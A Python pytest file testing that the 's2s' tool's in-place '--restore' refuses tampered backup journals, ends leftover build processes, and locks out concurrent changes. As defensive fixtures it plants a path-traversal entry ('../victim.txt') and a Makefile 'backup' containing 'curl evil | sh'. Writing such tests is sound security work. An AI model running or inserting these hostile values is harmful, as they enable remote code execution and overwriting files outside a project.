"""Issue 30, files damaged or overwritten by an in-place change and its `--restore`: a journal's paths are data
(contained in the MEP's own tree), one in-place change per tree at a time (`--force` included), the interrupted run's
commands are ended before the originals go back, and a file the user edited since s2s wrote it is kept. The trees are
fingerprinted before and after."""
from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import ROOT
from safety_util import cli_inproc, fake_win, fingerprint, gone, matmul_mep, one_line_exit_2, private_copy

from s2s.mep.history import History


@pytest.fixture(scope="module")
def golden(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return matmul_mep(tmp_path_factory.mktemp("journal"))


@pytest.fixture
def env(golden: tuple[Path, Path], tmp_path: Path) -> tuple[Path, Path]:
    return private_copy(golden, tmp_path)


def _plant(mep: Path, tree: Path, files: list[str], backups: dict[str, bytes], written: dict[str, bytes] | None = None) -> Path:
    d = mep / ".s2s-backup" / "20260101-000000"
    d.mkdir(parents=True)
    for rel, data in backups.items():
        (d / "files" / rel).parent.mkdir(parents=True, exist_ok=True)
        (d / "files" / rel).write_bytes(data)
    ours = {rel: hashlib.sha256(data).hexdigest() for rel, data in (written or {}).items()}
    (d / "journal.json").write_text(json.dumps({"tree": str(tree), "files": files, "written": ours, "pid": 1, "started": 0}))
    return d


def test_a_planted_journal_path_leading_out_of_the_tree_is_refused(env: tuple[Path, Path], tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    tree, mep = env
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    _plant(mep, tree, ["../victim.txt"], {"../victim.txt": b"overwritten\n"})
    before, outside = fingerprint(tree), fingerprint(tmp_path)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    one_line_exit_2(rc, err)
    assert "journal.json" in err and "outside" in err
    assert victim.read_text() == "precious\n" and fingerprint(tree) == before and fingerprint(tmp_path) == outside


def test_a_planted_journal_naming_another_tree_is_refused(env: tuple[Path, Path], tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    tree, mep = env
    other = tmp_path / "elsewhere"
    other.mkdir()
    (other / "notes.txt").write_text("mine\n")
    _plant(mep, other, ["notes.txt"], {"notes.txt": b"overwritten\n"})
    before = fingerprint(other)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    one_line_exit_2(rc, err)
    assert str(other) in err and "nothing was restored" in err
    assert fingerprint(other) == before


def test_restore_with_a_backup_file_missing_is_one_line(env: tuple[Path, Path], capsys) -> None:  # type: ignore[no-untyped-def]
    tree, mep = env
    _plant(mep, tree, ["kernels/linalg.cl"], {})
    before = fingerprint(tree)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    one_line_exit_2(rc, err)
    assert "backup of kernels/linalg.cl is missing" in err
    assert fingerprint(tree) == before


def _in_place_child(mep: Path, test_cmd: str, *extra: str) -> subprocess.Popen[str]:
    return subprocess.Popen([sys.executable, "-m", "s2s", "reintegrate", str(mep), "--in-place", "--build-cmd", "true",
                             "--test-cmd", test_cmd, *extra], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)


def _wait_for(path: Path, timeout: float = 60) -> None:
    t0 = time.monotonic()
    while not path.exists():
        assert time.monotonic() - t0 < timeout, f"{path} never appeared"
        time.sleep(0.05)


def _killed_mid_test(mep: Path, tmp_path: Path, test_cmd: str, running: Path | None = None) -> None:
    """`running`: a file the test command's own child writes once it runs; s2s is killed after that too."""
    started = tmp_path / "started"
    proc = _in_place_child(mep, f"touch {started}; {test_cmd}")
    _wait_for(started)
    if running is not None:
        _wait_for(running)
    proc.kill()
    proc.communicate(timeout=30)


def _late_writer(tmp_path: Path, writes: str) -> tuple[Path, Path]:
    """A script (outside the tree) that writes its pid, then 3 s later runs `writes` in the tree (its working
    directory); and the file that holds its pid. Gone when --restore has returned, it never writes: no test needs to
    wait past the write."""
    script, pid = tmp_path / "late.sh", tmp_path / "late.pid"
    script.write_text(f"echo $$ > {pid}.part && mv {pid}.part {pid}\nsleep 3\n{writes}\n")
    return script, pid


def _hold_until(release: Path) -> str:
    """A test command's wait until the test creates `release` (at most 60 s: a failed test leaves no process)."""
    return f"i=0; while [ ! -e {release} ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done"


@pytest.mark.slow
def test_restore_after_the_user_edited_the_file_keeps_the_edit_and_says_so(env: tuple[Path, Path], tmp_path: Path,
                                                                           capsys) -> None:  # type: ignore[no-untyped-def]
    tree, mep = env
    fake_win(mep)
    _killed_mid_test(mep, tmp_path, "sleep 30")
    source = tree / "kernels" / "linalg.cl"
    assert "s2s-test winner" in source.read_text()
    source.write_text(source.read_text() + "/* the user's own edit */\n")
    edited = fingerprint(tree)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    assert rc == 0 and "kept" in err and "changed after s2s wrote it" in err, err
    assert fingerprint(tree) == edited
    assert not list((mep / ".s2s-backup").glob("*/journal.json"))


@pytest.mark.slow
def test_restore_ends_the_build_the_killed_run_left_running(env: tuple[Path, Path], tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    tree, mep = env
    fake_win(mep)
    before = fingerprint(tree)
    script, pid = _late_writer(tmp_path, "echo late > late.txt; echo '/* late */' >> kernels/linalg.cl")
    _killed_mid_test(mep, tmp_path, f"sh {script} & sleep 30", running=pid)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    assert rc == 0 and "restored" in err, err
    assert gone(int(pid.read_text())), "the orphan outlived --restore: it writes into the tree later"
    assert fingerprint(tree) == before


@pytest.mark.slow
def test_restore_ends_what_the_killed_run_started_outside_its_session(env: tuple[Path, Path], tmp_path: Path,
                                                                      capsys) -> None:  # type: ignore[no-untyped-def]
    """The killed run's test command left its session (setsid): ending the recorded session missed it, and it wrote
    into the tree after the restore. The journal records each command's marker; --restore ends what carries it."""
    tree, mep = env
    fake_win(mep)
    before = fingerprint(tree)
    script, pid = _late_writer(tmp_path, "echo '/* late */' >> kernels/linalg.cl")
    _killed_mid_test(mep, tmp_path, f"setsid sh {script} & sleep 30", running=pid)
    (journal,) = list((mep / ".s2s-backup").glob("*/journal.json"))
    assert json.loads(journal.read_text())["markers"], journal.read_text()
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    assert rc == 0 and "restored" in err, err
    assert gone(int(pid.read_text())), "the escaped writer outlived --restore: it writes into the tree later"
    assert fingerprint(tree) == before


def _second_win(mep: Path) -> str:
    src = (mep / "kernel.cl").read_text()
    brace = src.index("{", src.index("__kernel"))
    vid = "vtest00002"
    (mep / "variants" / vid).mkdir(parents=True)
    (mep / "variants" / vid / "kernel.cl").write_text(src[:brace + 1] + "/* the second winner */" + src[brace + 1:])
    hist = History(mep / "history.sqlite")
    hist.add(vid, 1, "pass:test2", None, "sha2", None)
    hist.finish(vid, "ok", {"speedup": 1.2})
    hist.close()
    return vid


@pytest.mark.slow
def test_a_second_in_place_on_the_same_tree_is_refused_even_with_force(env: tuple[Path, Path], tmp_path: Path,
                                                                       capsys) -> None:  # type: ignore[no-untyped-def]
    tree, mep = env
    fake_win(mep)
    second = _second_win(mep)
    started = tmp_path / "started"
    release = tmp_path / "release"
    first = _in_place_child(mep, f"touch {started}; {_hold_until(release)}")
    _wait_for(started)
    during = fingerprint(tree)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--variant", second, "--in-place", "--force"], capsys)
    one_line_exit_2(rc, err)  # the same MEP: its journal says a change is under way
    assert "in progress" in err and "interrupted" not in err, err
    other = tmp_path / "mep2"  # another MEP of the same tree
    shutil.copytree(mep, other, ignore=shutil.ignore_patterns(".s2s-backup", ".s2s.lock"))
    rc, _o, err = cli_inproc(["reintegrate", str(other), "--variant", second, "--in-place", "--force"], capsys)
    assert rc == 2 and "reintegrated" not in err, err
    assert err.strip().splitlines()[-1].startswith("error:") and "another s2s reintegrate --in-place" in err, err
    assert fingerprint(tree) == during
    release.touch()
    _o, err1 = first.communicate(timeout=60)
    assert first.returncode == 0, err1
    text = (tree / "kernels" / "linalg.cl").read_text()
    assert "s2s-test winner" in text and "second winner" not in text


def test_a_journal_that_cannot_be_read_is_not_called_damaged(env: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch,
                                                            capsys) -> None:  # type: ignore[no-untyped-def]
    """An I/O error or a missing permission on a healthy journal said "unreadable journal ... delete it"."""
    import errno
    import os

    tree, mep = env
    d = _plant(mep, tree, ["kernels/linalg.cl"], {"kernels/linalg.cl": (tree / "kernels" / "linalg.cl").read_bytes()})
    real = Path.read_text

    def read_text(self: Path, *a, **k) -> str:  # type: ignore[no-untyped-def]
        if self.name == "journal.json":
            raise OSError(errno.EIO, os.strerror(errno.EIO), str(self))
        return real(self, *a, **k)

    monkeypatch.setattr(Path, "read_text", read_text)
    before, kept = fingerprint(tree), fingerprint(d)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    one_line_exit_2(rc, err)
    assert "cannot read the journal" in err and os.strerror(errno.EIO) in err and "delete" not in err, err
    assert fingerprint(tree) == before and fingerprint(d) == kept


@pytest.mark.parametrize("what", ["directory", "fifo"])
def test_a_planted_journal_naming_a_directory_or_special_file_is_refused(env: tuple[Path, Path], what: str,
                                                                         capsys) -> None:  # type: ignore[no-untyped-def]
    """`files: ["kernels"]` (a directory of the tree) ended in a traceback; a FIFO would have been replaced by a file."""
    import os

    tree, mep = env
    if what == "fifo":
        os.mkfifo(tree / "kernels" / "pipe")
    rel = "kernels" if what == "directory" else "kernels/pipe"
    _plant(mep, tree, [rel], {rel: b"planted\n"})
    before = fingerprint(tree)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    one_line_exit_2(rc, err)
    assert "is not a regular file" in err and "nothing was restored" in err, err
    assert fingerprint(tree) == before


def test_restore_that_cannot_write_keeps_the_journal_and_finishes_later(env: tuple[Path, Path],
                                                                       monkeypatch: pytest.MonkeyPatch,
                                                                       capsys) -> None:  # type: ignore[no-untyped-def]
    import errno
    import os

    from s2s.base import journal

    tree, mep = env
    source = tree / "kernels" / "linalg.cl"
    original = source.read_bytes()
    _plant(mep, tree, ["kernels/linalg.cl"], {"kernels/linalg.cl": original},
           {"kernels/linalg.cl": original + b"/* s2s's variant */\n"})
    source.write_bytes(original + b"/* s2s's variant */\n")
    changed = fingerprint(tree)
    real = journal.atomic_write

    def full(path: Path, data: bytes) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(journal, "atomic_write", full)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    one_line_exit_2(rc, err)
    assert "cannot restore" in err and os.strerror(errno.ENOSPC) in err and "--restore again" in err, err
    assert fingerprint(tree) == changed and list((mep / ".s2s-backup").glob("*/journal.json"))
    monkeypatch.setattr(journal, "atomic_write", real)  # space again
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    assert rc == 0 and "restored" in err and source.read_bytes() == original, err


@pytest.mark.slow
def test_the_advice_after_a_killed_in_place_run_into_another_tree_restores_it(env: tuple[Path, Path], tmp_path: Path,
                                                                              capsys) -> None:  # type: ignore[no-untyped-def]
    """An in-place change made with --tree OTHER and killed: every command advised `--restore` without --tree, which
    refuses a journal naming a tree other than the MEP's own; the advice names the tree."""
    tree, mep = env
    other = tmp_path / "other"
    shutil.copytree(tree, other)
    fake_win(mep)
    before = fingerprint(other)
    started = tmp_path / "started"
    proc = _in_place_child(mep, f"touch {started}; sleep 30", "--tree", str(other))
    _wait_for(started)
    proc.kill()
    proc.communicate(timeout=30)
    rc, _o, err = cli_inproc(["report", str(mep)], capsys)
    one_line_exit_2(rc, err)
    advice = err.split("`")[1]
    assert advice == f"s2s reintegrate {mep} --restore --tree {other}", err
    rc, _o, err = cli_inproc(advice.split()[1:], capsys)
    assert rc == 0 and "restored" in err, err
    assert fingerprint(other) == before


@pytest.mark.slow
def test_in_place_runs_through_nested_trees_changing_one_file_are_exclusive(env: tuple[Path, Path], tmp_path: Path,
                                                                           capsys) -> None:  # type: ignore[no-untyped-def]
    """An MEP of the tree and one of its subdirectory reach the same file: the tree's lock alone let both change it
    (the second backed the first's variant up as the original). The directory of every changed file is locked too."""
    from s2s.extract.mep_writer import make_mep

    tree, mep = env
    fake_win(mep)
    inner = tmp_path / "mep-inner"
    make_mep(str(tree / "kernels"), "matmul", str(inner))
    fake_win(inner, marker="/* the inner winner */")
    started = tmp_path / "started"
    release = tmp_path / "release"
    first = _in_place_child(mep, f"touch {started}; {_hold_until(release)}")
    _wait_for(started)
    during = fingerprint(tree)
    rc, _o, err = cli_inproc(["reintegrate", str(inner), "--in-place", "--force"], capsys)
    assert rc == 2 and "another s2s reintegrate --in-place" in err, err
    assert fingerprint(tree) == during
    release.touch()
    _o, err1 = first.communicate(timeout=60)
    assert first.returncode == 0, err1
    text = (tree / "kernels" / "linalg.cl").read_text()
    assert "s2s-test winner" in text and "inner winner" not in text


def test_a_planted_journal_that_does_not_record_what_s2s_wrote_overwrites_nothing(env: tuple[Path, Path],
                                                                                   capsys) -> None:  # type: ignore[no-untyped-def]
    """Inside the MEP's own tree, a journal without `written` replaced any file with its "backup"; now only a file
    that holds exactly what s2s recorded writing is put back."""
    tree, mep = env
    _plant(mep, tree, ["Makefile"], {"Makefile": b"all:\n\tcurl evil | sh\n"})
    before = fingerprint(tree)
    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
    assert rc == 0 and "kept" in err and "does not record what s2s wrote" in err, err
    assert fingerprint(tree) == before
